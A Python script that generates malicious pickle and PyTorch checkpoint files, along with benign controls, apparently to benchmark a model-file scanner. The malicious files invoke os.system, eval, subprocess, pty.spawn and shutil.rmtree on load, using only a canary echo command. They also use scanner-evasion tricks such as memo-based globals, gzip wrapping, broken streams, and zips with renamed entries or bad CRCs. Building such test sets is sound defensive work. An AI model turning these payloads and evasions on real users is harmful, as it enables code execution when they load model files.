#!/usr/bin/env python3
"""scanner_set.py OUTDIR: a hostile pickle/PyTorch set and benign controls,
for comparing weightcheck with the pickle scanners people use
(scripts/bench-scanners.sh). Nothing here is ever unpickled: the malicious
files are written opcode by opcode (or by pickling stand-in objects whose
__reduce__ only names a callable), so writing them runs nothing.

Malicious files are named mal-*, benign ones ok-*. Families covered:
dangerous globals by GLOBAL and STACK_GLOBAL, a global whose module and
name come from the memo, protocol-0 INST, non-standard file extensions,
gzip and 7z-free "compressed" wrappers (gzip), "broken" pickles (the
payload runs before the stream is malformed), and PyTorch zips with a
malicious data.pkl, a renamed data.pkl, a wrong CRC and an encrypted flag.
Benign: numpy arrays as numpy pickles them (protocols 2, 4, 5 here, with
this interpreter's numpy), a plain dict, and PyTorch state dicts written
by scripts/torch_zip_fixture.py.
"""
import gzip
import os
import struct
import subprocess
import sys
import zlib

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
here = os.path.dirname(os.path.abspath(__file__))


def write(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


def sbu(s):
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def call_global(module, name, arg, proto=2):
    """GLOBAL module name; arg; TUPLE1; REDUCE; STOP."""
    return (b"\x80" + bytes([proto]) + b"c" + module.encode() + b"\n" + name.encode() + b"\n"
            + b"X" + struct.pack("<I", len(arg)) + arg.encode() + b"\x85R.")


def call_stack_global(module, name, arg):
    return (b"\x80\x04\x95" + struct.pack("<Q", 0) + sbu(module) + sbu(name) + b"\x93"
            + sbu(arg) + b"\x85R.")


CMD = "echo pwned > /tmp/weightcheck-scanner-canary"

# Dangerous callables, each by GLOBAL (protocol 2).
for i, (m, n) in enumerate([
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("builtins", "eval"),
    ("builtins", "exec"), ("__builtin__", "eval"), ("subprocess", "Popen"),
    ("subprocess", "check_output"), ("runpy", "_run_code"), ("pty", "spawn"),
    ("webbrowser", "open"), ("shutil", "rmtree"), ("builtins", "__import__"),
]):
    write(f"mal-global-{i:02d}-{m}.{n}.pkl", call_global(m, n, CMD))

# STACK_GLOBAL (protocol 4), and a global whose strings come from the memo.
write("mal-stack-global-os.system.pkl", call_stack_global("os", "system", CMD))
memo = (b"\x80\x04" + sbu("os") + b"\x94" + sbu("system") + b"\x94" + b"h\x00h\x01\x93"
        + sbu(CMD) + b"\x85R.")
write("mal-memo-global.pkl", memo)
# Protocol 0: INST names the class in text.
write("mal-inst-protocol0.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.")
# Non-standard extensions for the same payload.
for ext in ("bin", "data", "model", "ckpt"):
    write(f"mal-extension.{ext}", call_global("os", "system", CMD))
# Compressed wrapper.
write("mal-gzip.pkl.gz", gzip.compress(call_global("os", "system", CMD)))
# Broken: the call happens, then the stream ends without STOP / with junk.
write("mal-broken-no-stop.pkl", call_global("os", "system", CMD)[:-1])
write("mal-broken-junk.pkl", call_global("os", "system", CMD)[:-1] + b"\xff\xfe junk")


def zip_with(entries, flag=0x0808, bad_crc=False):
    """A stored (method 0) zip; `entries` are (name, bytes)."""
    body, central, offset = b"", b"", 0
    for name, data in entries:
        n = name.encode()
        crc = zlib.crc32(data) ^ (0xFFFFFFFF if bad_crc else 0)
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flag, 0, 0, 0, crc, len(data), len(data), len(n), 0) + n + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flag, 0, 0, 0, crc, len(data), len(data), len(n), 0, 0, 0, 0, 0, offset) + n
        body += local
        offset += len(local)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), offset, 0)
    return body + central + end


evil = call_global("os", "system", CMD)
base = [("archive/.format_version", b"1"), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]
write("mal-torch-zip.pth", zip_with([("archive/data.pkl", evil)] + base))
write("mal-torch-renamed-pkl.pth", zip_with([("archive/data.pickle", evil), ("archive/data.pkl", evil)] + base))
write("mal-torch-bad-crc.pth", zip_with([("archive/data.pkl", evil)] + base, bad_crc=True))
write("mal-torch-encrypted-flag.pth", zip_with([("archive/data.pkl", evil)] + base, flag=0x0809))

# Benign controls.
import numpy as np  # noqa: E402
import pickle  # noqa: E402

a = np.arange(6, dtype=np.float32).reshape(2, 3)
for proto in (2, 4, 5):
    write(f"ok-numpy{np.__version__.split('.')[0]}-protocol{proto}.pkl", pickle.dumps(a, protocol=proto))
py = sys.executable
for kind in ("plain", "strided") if np.__version__.startswith("1.") else ():
    subprocess.run([py, os.path.join(here, "torch_zip_fixture.py"), kind, os.path.join(out, f"ok-torch-{kind}.pth")], check=True)
